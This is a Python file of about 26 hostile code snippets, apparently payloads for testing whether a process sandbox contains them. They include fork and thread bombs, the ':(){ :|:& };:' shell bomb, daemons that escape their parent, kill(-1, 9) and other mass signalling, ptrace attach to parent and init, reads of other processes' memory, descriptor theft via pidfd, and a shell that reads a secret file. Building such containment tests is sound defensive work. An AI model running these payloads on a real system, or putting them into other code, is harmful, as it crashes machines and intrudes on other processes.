"""Programs that multiply, outlive their end, or reach for other processes."""

ATTACKS = {
    "fork_bomb": """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
    "fork_bomb_that_ignores_signals": """
import os, signal
for n in range(1, 64):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
for _ in range(100000):
    try: os.fork()
    except OSError: break
while True: pass
""",
    "vfork_bomb_by_subprocess": """
import subprocess, sys
for _ in range(500):
    try: subprocess.Popen([sys.executable, "-c", "while True: pass"])
    except OSError: pass
""",
    "shell_fork_bomb": """
import os
os.system(":(){ :|:& };:")
""",
    "thread_bomb": """
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(3600,)).start()
    except RuntimeError: pass
""",
    "double_fork_and_setsid": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for d in range(256):
            try: os.close(d)
            except OSError: pass
        time.sleep(3600)
    os._exit(0)
os.wait()
""",
    "daemon_that_writes_later": """
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(0.3)
    open("@DIR@/@MARK@", "w").write("late")
    time.sleep(3600)
""",
    "nohup_by_shell": """
import os
os.system("(nohup sleep 3600 >/dev/null 2>&1 &) &")
""",
    "child_that_stops_itself": """
import os, signal
if os.fork() == 0:
    os.kill(os.getpid(), signal.SIGSTOP)
""",
    "stops_itself": """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
""",
    "signals_everybody": """
import os
for sig in (15, 2, 1, 10, 12):
    try: os.kill(-1, sig)
    except OSError: pass
""",
    "kills_everybody": """
import os
if os.fork() == 0:
    os.setsid()
    try: os.kill(-1, 9)
    except OSError: pass
""",
    "kills_its_parents": """
import os
for pid in (os.getppid(), @PID@):
    for sig in (15, 10, 12):
        try: os.kill(pid, sig)
        except OSError: pass
""",
    "kills_its_process_group": """
import os, signal
try: os.killpg(0, signal.SIGTERM)
except OSError: pass
try: os.killpg(@PID@, signal.SIGTERM)
except OSError: pass
""",
    "kills_every_number": """
import os
for pid in range(1, 40000):
    if pid != os.getpid():
        try: os.kill(pid, 10)
        except OSError: pass
""",
    "ignores_the_end": """
import signal
for n in range(1, 65):
    try: signal.signal(n, lambda *a: None)
    except (OSError, ValueError): pass
while True: pass
""",
    "alarm_and_timers": """
import signal
signal.signal(signal.SIGALRM, lambda *a: None)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
while True: pass
""",
    "ptrace_of_parents": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), @PID@, 1):
    if pid > 0 and libc.ptrace(16, pid, 0, 0) == 0: print("ESCAPED ptrace attach", pid)
    if pid > 0 and libc.ptrace(0x4206, pid, 0, 0) == 0: print("ESCAPED ptrace seize", pid)
""",
    "reads_memory_of_others": """
import ctypes, os
class Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
mine = ctypes.create_string_buffer(64)
for pid in {os.getppid(), @PID@} - {0, os.getpid()}:
    try: start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
    except (OSError, ValueError): continue
    local, remote = Vec(ctypes.addressof(mine), 64), Vec(start, 64)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        print("ESCAPED read memory of", pid)
""",
    "steals_descriptors_by_pidfd": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), @PID@} - {0, os.getpid()}:
    fd = libc.syscall(434, pid, 0)
    if fd >= 0:
        for n in range(20):
            if libc.syscall(438, fd, n, 0) >= 0: print("ESCAPED stole descriptor", n, "of", pid)
""",
    "renices_and_reschedules": """
import ctypes, os
try:
    if os.nice(-20) < 0: print("ESCAPED nice")
except OSError: pass
for policy in (os.SCHED_FIFO, os.SCHED_RR):
    try:
        os.sched_setscheduler(0, policy, os.sched_param(50)); print("ESCAPED real time")
    except OSError: pass
try: os.setpriority(os.PRIO_PROCESS, @PID@, 19); print("ESCAPED reniced the host")
except OSError: pass
""",
    "raises_its_limits": """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
    soft, hard = resource.getrlimit(kind)
    try:
        resource.setrlimit(kind, (hard + 1000 if hard > 0 else hard, hard + 1000 if hard > 0 else hard))
        if hard > 0: print("ESCAPED raised a limit", kind)
    except (OSError, ValueError): pass
""",
    "limits_of_others": """
import resource
for pid in (1, @PID@):
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8))
        import os
        if pid == @PID@: print("ESCAPED set a limit of the host")
    except (OSError, ValueError): pass
""",
    "exec_of_a_shell": """
import os
os.environ.clear()
os.execv("/bin/sh", ["sh", "-c", "cat @DIR@/secret; touch @DIR@/@MARK@; sleep 3600"])
""",
    "subreaper_and_orphans": """
import ctypes, os, time
ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
for _ in range(20):
    try:
        if os.fork() == 0:
            if os.fork() == 0: time.sleep(3600)
            os._exit(0)
    except OSError: break
os._exit(0)
""",
}
